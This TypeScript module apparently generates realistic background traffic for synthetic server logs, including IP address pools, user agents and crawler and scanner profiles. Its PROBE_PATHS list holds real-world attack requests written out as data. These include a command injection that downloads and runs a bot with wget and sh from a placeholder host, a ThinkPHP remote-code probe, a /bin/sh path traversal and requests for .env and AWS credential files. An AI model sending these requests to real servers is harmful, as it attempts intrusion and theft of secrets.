import type { Random } from "../../random";
import { type NoiseContext, perFile } from "../context";

/**
 * The internet as a server sees it: addresses of people and bots, the user agents they send, and
 * the internal clients of the company. Kept apart from any one log so that web, SSH, DNS and
 * firewall noise agree on who is out there.
 */

const octet = (rng: Random, min = 0, max = 255) => rng.int(min, max);

/** Reserved, private and multicast space: never a visitor's address. */
function reserved(a: number, b: number): boolean {
  return (
    a === 0 ||
    a === 10 ||
    a === 127 ||
    a >= 224 ||
    (a === 100 && b >= 64 && b <= 127) ||
    (a === 169 && b === 254) ||
    (a === 172 && b >= 16 && b <= 31) ||
    (a === 192 && (b === 168 || b === 0)) ||
    (a === 198 && (b === 18 || b === 19 || b === 51)) ||
    (a === 203 && b === 0)
  );
}

/** A public unicast address, as home broadband, mobile networks and hosting providers have. */
export function publicIp(rng: Random): string {
  for (;;) {
    const a = octet(rng, 2, 223);
    const b = octet(rng);
    if (!reserved(a, b)) return `${a}.${b}.${octet(rng)}.${octet(rng, 1, 254)}`;
  }
}

/**
 * Addresses of the RFC 5737 documentation ranges that the content's own internet actors never
 * use: the content (and every drawn variant of it, which takes .20 to .239) places attackers in
 * these ranges, so noise must put ordinary visitors there too, or the ranges alone would point at
 * the attack. noise/profiles.test.ts checks that no content names one of them.
 */
export const DOCUMENTATION_POOL: readonly string[] = [
  ...[...range(1, 19), ...range(240, 254)].map((n) => `192.0.2.${n}`),
  ...[...range(16, 19), ...range(240, 254)].map((n) => `198.51.100.${n}`),
  ...[1, 2, 3, 4, 5, 6, 7, 8, 11, 13, 18, 19, 240, 241, 242, 245, 246, 247, 249, 250, 251, 252, 253, 254].map(
    (n) => `203.0.113.${n}`,
  ),
];

function range(from: number, to: number): number[] {
  return Array.from({ length: to - from + 1 }, (_, i) => from + i);
}

/** An internet address: mostly anywhere, sometimes in the documentation ranges (see above). */
export function internetAddress(rng: Random, documentationShare = 0.15): string {
  return rng.chance(documentationShare) ? rng.pick(DOCUMENTATION_POOL) : publicIp(rng);
}

/**
 * A fixed population of internet clients for one file (customers, remote staff, recipients),
 * so that the same people come back: a few hundred addresses, each with its own browser.
 */
export const population = perFile("internet:population", (r) =>
  Array.from({ length: 400 }, () => ({ ip: internetAddress(r, 0.12), agent: browserAgent(r) })),
);

/** An address in a CIDR network, host part drawn (never the network or broadcast address). */
function inNetwork(rng: Random, cidr: string): string {
  const [base, bitsText] = cidr.split("/");
  const bits = Number(bitsText);
  const parts = base!.split(".").map(Number);
  const value = ((parts[0]! << 24) | (parts[1]! << 16) | (parts[2]! << 8) | parts[3]!) >>> 0;
  const size = 2 ** (32 - bits);
  const mask = bits === 0 ? 0 : (0xffffffff << (32 - bits)) >>> 0;
  const host = size <= 2 ? 0 : rng.int(1, Math.min(size - 2, 253));
  const v = ((value & mask) + host) >>> 0;
  return [v >>> 24, (v >>> 16) & 255, (v >>> 8) & 255, v & 255].join(".");
}

/**
 * The file's internal clients: the `peers` given (networks stand for a dozen or more machines in
 * them, fixed for the file), or the world's other hosts. A host never is its own client.
 */
export const clients = perFile("internet:clients", (r, ctx) => {
  const out: string[] = [];
  for (const p of ctx.peers) {
    if (!p.includes("/")) out.push(p);
    else {
      const bits = Number(p.split("/")[1]);
      const n = Math.min(bits >= 28 ? 2 ** (32 - bits) - 2 : 24, 24);
      const seen = new Set<string>();
      for (let i = 0; i < n * 3 && seen.size < n; i++) seen.add(inNetwork(r, p));
      out.push(...seen);
    }
  }
  const others = out.filter((ip) => ip !== ctx.ip);
  return others.length ? others : ["10.0.20.15"];
});

/** An internal client of the file's host. */
export const client = (rng: Random, ctx: NoiseContext) => rng.pick(clients(rng, ctx));

// ───────────────────────────── user agents ─────────────────────────────

const CHROME = ["122.0.0.0", "123.0.0.0", "124.0.0.0", "121.0.0.0"];
const FIREFOX = ["123.0", "124.0", "125.0", "115.0"];

/** The browser of one person: desktop mostly, phones and tablets too (versions of spring 2026). */
export function browserAgent(rng: Random): string {
  const r = rng.next();
  const chrome = rng.pick(CHROME);
  const firefox = rng.pick(FIREFOX);
  if (r < 0.38)
    return `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome} Safari/537.36`;
  if (r < 0.5)
    return `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome} Safari/537.36 Edg/${chrome.replace(/\.0\.0$/, ".0.2365.92")}`;
  if (r < 0.62)
    return `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3.1 Safari/605.1.15`;
  if (r < 0.7)
    return `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome} Safari/537.36`;
  if (r < 0.78) return `Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:${firefox}) Gecko/20100101 Firefox/${firefox}`;
  if (r < 0.82) return `Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:${firefox}) Gecko/20100101 Firefox/${firefox}`;
  if (r < 0.92)
    return `Mozilla/5.0 (iPhone; CPU iPhone OS 17_${rng.int(2, 4)} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.${rng.int(2, 4)} Mobile/15E148 Safari/604.1`;
  if (r < 0.98)
    return `Mozilla/5.0 (Linux; Android ${rng.pick(["13", "14"])}; ${rng.pick(["SM-S911B", "SM-A546B", "Pixel 7", "Pixel 8", "SM-G991B"])}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome} Mobile Safari/537.36`;
  return `Mozilla/5.0 (iPad; CPU OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1`;
}

/** The company's own desktops: Windows and Ubuntu, browsers kept up to date. */
export function staffAgent(rng: Random): string {
  const r = rng.next();
  if (r < 0.45)
    return `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${rng.pick(CHROME)} Safari/537.36`;
  if (r < 0.6)
    return `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${rng.pick(CHROME)} Safari/537.36 Edg/123.0.2420.81`;
  if (r < 0.85)
    return `Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:${rng.pick(FIREFOX)}) Gecko/20100101 Firefox/${rng.pick(FIREFOX)}`;
  return `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3.1 Safari/605.1.15`;
}

/** Each internal client keeps its own browser for the whole file. */
export const staffAgents = perFile("internet:staff-agents", (r, ctx) => {
  const map = new Map<string, string>();
  for (const ip of clients(r, ctx)) map.set(ip, staffAgent(r));
  return map;
});

// ───────────────────────────── crawlers, monitors, scanners ─────────────────────────────

export interface Bot {
  name: string;
  agent: string;
  /** Where it comes from: a network prefix ("66.249.66."), the last octet drawn. */
  prefixes: string[];
  weight: number;
}

const botIp = (rng: Random, bot: Bot) => `${rng.pick(bot.prefixes)}${rng.int(1, 254)}`;

/** Search and SEO crawlers, with their published user agents and address ranges. */
export const CRAWLERS: Bot[] = [
  {
    name: "googlebot",
    agent: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    prefixes: ["66.249.66.", "66.249.68.", "66.249.64.", "66.249.72.", "66.249.79."],
    weight: 6,
  },
  {
    name: "googlebot-mobile",
    agent:
      "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.86 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    prefixes: ["66.249.66.", "66.249.68.", "66.249.70."],
    weight: 5,
  },
  {
    name: "bingbot",
    agent:
      "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
    prefixes: ["40.77.167.", "157.55.39.", "207.46.13.", "52.167.144."],
    weight: 5,
  },
  {
    name: "yandex",
    agent: "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    prefixes: ["5.255.231.", "5.255.253.", "213.180.203.", "87.250.224."],
    weight: 2,
  },
  {
    name: "ahrefs",
    agent: "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    prefixes: ["54.36.148.", "54.36.149.", "51.222.253.", "5.39.1."],
    weight: 3,
  },
  {
    name: "semrush",
    agent: "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    prefixes: ["185.191.171.", "85.208.96.", "85.208.98."],
    weight: 3,
  },
  {
    name: "applebot",
    agent:
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    prefixes: ["17.241.75.", "17.241.219.", "17.22.237."],
    weight: 1,
  },
  {
    name: "petalbot",
    agent:
      "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
    prefixes: ["114.119.132.", "114.119.134.", "114.119.148."],
    weight: 1,
  },
  {
    name: "gptbot",
    agent: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    prefixes: ["20.171.206.", "20.171.207."],
    weight: 1,
  },
  {
    name: "duckduckbot",
    agent: "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    prefixes: ["20.191.45.", "40.88.21.", "52.142.26."],
    weight: 1,
  },
];

/** Uptime monitors: the same few addresses every few minutes. */
export const MONITORS: Bot[] = [
  {
    name: "uptimerobot",
    agent: "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    prefixes: ["216.144.248.", "69.162.124.", "63.143.42."],
    weight: 3,
  },
  {
    name: "pingdom",
    agent: "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    prefixes: ["5.172.196.", "178.255.152.", "185.180.12."],
    weight: 2,
  },
  {
    name: "statuscake",
    agent:
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 StatusCake",
    prefixes: ["35.246.140.", "138.68.24."],
    weight: 1,
  },
];

/**
 * Internet-wide scanners and vulnerability probes. Some say who they are; some pose as browsers or
 * scripting libraries (the same python-requests or curl an attacker uses).
 */
export const SCANNERS: Bot[] = [
  {
    name: "censys",
    agent: "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    prefixes: ["162.142.125.", "167.94.138.", "167.94.145.", "206.168.34."],
    weight: 3,
  },
  { name: "zgrab", agent: "Mozilla/5.0 zgrab/0.x", prefixes: [], weight: 4 },
  {
    name: "leakix",
    agent: "Mozilla/5.0 (l9scan/2.0.131313e24333e26313e2532313; +https://leakix.net)",
    prefixes: [],
    weight: 2,
  },
  {
    name: "internet-measurement",
    agent: "Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)",
    prefixes: ["87.236.176.", "193.235.141."],
    weight: 2,
  },
  {
    name: "expanse",
    agent:
      "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers&#39; presences on the Internet. If you would like to be excluded from our scans, please contact us at: scaninfo@paloaltonetworks.com",
    prefixes: ["205.210.31.", "198.235.24."],
    weight: 2,
  },
  {
    name: "nuclei",
    agent:
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36",
    prefixes: [],
    weight: 2,
  },
  { name: "python-requests", agent: "python-requests/2.31.0", prefixes: [], weight: 2 },
  { name: "python-requests", agent: "python-requests/2.28.2", prefixes: [], weight: 1 },
  { name: "go", agent: "Go-http-client/1.1", prefixes: [], weight: 2 },
  { name: "curl", agent: "curl/7.88.1", prefixes: [], weight: 1 },
  {
    name: "custom",
    agent: "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    prefixes: [],
    weight: 2,
  },
  { name: "keydrop", agent: "Keydrop.io/1.0(onlyscans.com/about.php)", prefixes: [], weight: 1 },
];

/** An address for one run of a bot: its published ranges, or anywhere (documentation ranges too). */
export function botAddress(rng: Random, bot: Bot): string {
  return bot.prefixes.length ? botIp(rng, bot) : internetAddress(rng, 0.3);
}

/**
 * What scanners ask every server for: admin panels, leaked secrets, known CVEs of other products.
 * Kept as one list so that a log's probes look like the rest of the internet's.
 */
export const PROBE_PATHS = [
  "/.env",
  "/.env.production",
  "/.env.local",
  "/api/.env",
  "/laravel/.env",
  "/.git/config",
  "/.git/HEAD",
  "/.aws/credentials",
  "/.DS_Store",
  "/.vscode/sftp.json",
  "/config.json",
  "/wp-login.php",
  "/wp-admin/setup-config.php",
  "/wp-includes/wlwmanifest.xml",
  "/xmlrpc.php",
  "/wp-content/plugins/wp-file-manager/readme.txt",
  "/phpinfo.php",
  "/info.php",
  "/phpmyadmin/",
  "/pma/",
  "/admin/",
  "/administrator/",
  "/login.action",
  "/server-status",
  "/actuator/env",
  "/actuator/health",
  "/solr/admin/info/system?wt=json",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/cgi-bin/luci/;stok=/locale",
  "/boaform/admin/formLogin",
  "/HNAP1/",
  "/owa/auth/logon.aspx",
  "/remote/login?lang=en",
  "/global-protect/login.esp",
  "/manager/html",
  "/telescope/requests",
  "/_profiler/phpinfo",
  "/debug/default/view?panel=config",
  "/.well-known/security.txt",
  "/sitemap.xml",
  "/favicon.ico",
  "/robots.txt",
  "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21",
  "/shell?cd+/tmp;rm+-rf+*;wget+http://{doc}/jaws;sh+/tmp/jaws",
  "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
  "/geoserver/web/",
  "/Autodiscover/Autodiscover.xml",
  "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
  "/hudson",
  "/console/",
  "/v2/_catalog",
  "/api/v1/pods",
  "/containers/json",
];

/** Probe paths with any placeholder filled (an address to download a bot from). */
export function probePath(rng: Random, paths: readonly string[]): string {
  return rng.pick(paths).replace("{doc}", rng.pick(DOCUMENTATION_POOL));
}
